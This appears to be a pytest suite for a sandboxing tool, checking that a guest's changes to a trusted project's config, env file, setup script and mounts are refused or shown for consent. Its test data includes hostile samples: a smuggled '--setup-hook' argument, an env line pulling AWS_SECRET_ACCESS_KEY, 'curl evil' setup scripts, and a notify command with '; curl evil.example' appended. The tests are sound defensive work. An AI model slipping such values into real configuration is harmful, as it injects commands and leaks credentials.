"""Consent as typed: what a guest commits to a file that a trusted project file names, merged and started again."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from git_sandbox import projectfile, registry, settings
from git_sandbox.cli import config, configured
from git_sandbox.cli.main import main
from git_sandbox.git.repo import discover
from git_sandbox.image import spec
from git_sandbox.sandbox import session_options
from git_sandbox.settings import Settings
from support.fabricated import worked
from support.gitrepo import GitRepo

NAMING = (
    'image = "tools/image.toml"\nenv-file = ["tools/sandbox.env"]\nmount = ["fixtures"]\nsetup = "tools/setup.sh"\n'
)
FILES = {
    "sandbox.toml": NAMING, "tools/image.toml": "", "tools/sandbox.env": "A=1\n", "tools/setup.sh": "true\n",
    "fixtures/a": "x\n",
}  # fmt: skip


@pytest.fixture
def trusted(repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> GitRepo:
    monkeypatch.chdir(repo.path)
    repo.commit("settings", dict(FILES))
    assert main(["config", "--trust"]) == 0
    return repo


def resolved(repo: GitRepo) -> Settings:
    here = discover(repo.path)
    return settings.resolve(None, projectfile.read(repo.path, registry.consent(here)))[0]


EVIL = {
    "tools/image.toml": 'mirror = "--setup-hook=touch /tmp/pwned"\n',
    "tools/sandbox.env": "A=1\nAWS_SECRET_ACCESS_KEY\n",
    "tools/setup.sh": "curl evil\n",
    "fixtures/a": "y\n",
    "fixtures/new": "",
    "sandbox.toml": f'{NAMING}ssh-agent = "yes"\n',
}


@pytest.mark.parametrize("name", EVIL)
def test_a_fast_forward_that_touches_it_is_not_merged_unasked(
    trusted: GitRepo, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    worked(trusted, "vm-1", {name: EVIL[name]})
    before = trusted.git("rev-parse", "HEAD")
    capsys.readouterr()
    assert main(["merge", "vm-1"]) != 0
    said = capsys.readouterr()
    assert name in said.err
    assert trusted.git("rev-parse", "HEAD") == before
    assert resolved(trusted).ssh_agent == "no"
    assert resolved(trusted).env_file == (str(trusted.path / "tools/sandbox.env"),), "nothing changed here"


def test_the_chain_ends_at_consent_even_when_it_was_merged(
    trusted: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """attacks.md 2b and 3: what a user lets in with --yes is no consent to what it does to the next sandbox."""
    worked(trusted, "vm-1", {name: EVIL[name] for name in ("tools/image.toml", "tools/sandbox.env")})
    assert main(["merge", "--yes", "vm-1"]) == 0
    assert trusted.read("tools/sandbox.env") == EVIL["tools/sandbox.env"].encode()
    found = resolved(trusted)
    assert (found.image, found.env_file, found.mount) == ("", (), ())
    assert spec.asked(found) == spec.load()
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
    more = session_options.gather(found, settings.environment())
    assert more.env == {}
    capsys.readouterr()
    assert main(["config"]) == 0
    shown = capsys.readouterr().out
    assert "changed since you trusted it" in shown
    lines = [line for line in shown.splitlines() if line.startswith(("-file", "+file"))]
    assert sorted({line.split()[1] for line in lines}) == ["tools/image.toml", "tools/sandbox.env"]


def test_a_mount_that_becomes_a_link_is_not_used_and_shown(
    trusted: GitRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "secrets").mkdir()
    (trusted.path / "fixtures/a").unlink()
    (trusted.path / "fixtures").rmdir()
    (trusted.path / "fixtures").symlink_to(tmp_path / "secrets")
    assert resolved(trusted).mount == ()
    capsys.readouterr()
    assert main(["config", "--trust"]) == 0
    assert f"file fixtures -> {tmp_path / 'secrets'}" in capsys.readouterr().out, "never without being shown"


def test_json_of_config_has_no_content_of_files(trusted: GitRepo, capsys: pytest.CaptureFixture[str]) -> None:
    del trusted
    capsys.readouterr()
    assert main(["config", "--json"]) == 0
    said = capsys.readouterr().out
    assert json.loads(said)["status"] == "ok"
    assert "A=1" not in said
    assert "curl" not in said


def test_the_first_look_shows_all_of_what_is_asked_for(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A command of this host with its harm at the end, the thirteenth name, a mount far away: in both first looks."""
    monkeypatch.chdir(repo.path)
    notify = f"notify-send {'x' * 1500} ; curl evil.example"
    mount = f"/{'deep/' * 300}end"
    names = [f"{'x' * 60}{number}.example" for number in range(30)]
    content = f'notify = "{notify}"\nmount = ["{mount}"]\nallow = {json.dumps(names)}\nkey = {json.dumps(names)}\n'
    (repo.path / "sandbox.toml").write_text(content)
    configured.resolved(discover(repo.path))
    first = capsys.readouterr().err
    assert main(["config"]) == 0
    for shown in (first, capsys.readouterr().out):
        for each in (notify, mount, " ".join(names)):
            assert each in shown
        assert shown.count(names[-1]) >= 2
    (repo.path / "sandbox.toml").write_text('notify = "true"\n')
    assert main(["config", "--trust"]) == 0
    (repo.path / "sandbox.toml").write_text(content)
    capsys.readouterr()
    assert main(["config"]) == 0
    shown = capsys.readouterr().out
    assert f"+notify = {notify}\n" in shown
    assert "in another repository" not in shown


def test_another_repository_is_named_only_where_it_was_one(
    trusted: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    def said() -> str:
        capsys.readouterr()
        assert main(["config"]) == 0
        return capsys.readouterr().out

    spaced = trusted.path / "sandbox.toml"
    spaced.write_text(f'{NAMING}exclude = "a b"\n')
    assert main(["config", "--trust"]) == 0
    spaced.write_text(f'{NAMING}exclude = "a  b"\n')
    assert "invisible characters" in said()
    assert "another repository" not in said()
    spaced.write_text(f'{NAMING}exclude = "a b"\n')
    assert "(trusted)" in said()
    elsewhere = dataclasses.replace(registry.consent(discover(trusted.path)), identity=lambda: "0" * 32)
    found = projectfile.read(trusted.path, elsewhere)
    assert found is not None
    assert config._project(found)[1:] == ["you trusted it in another repository"]
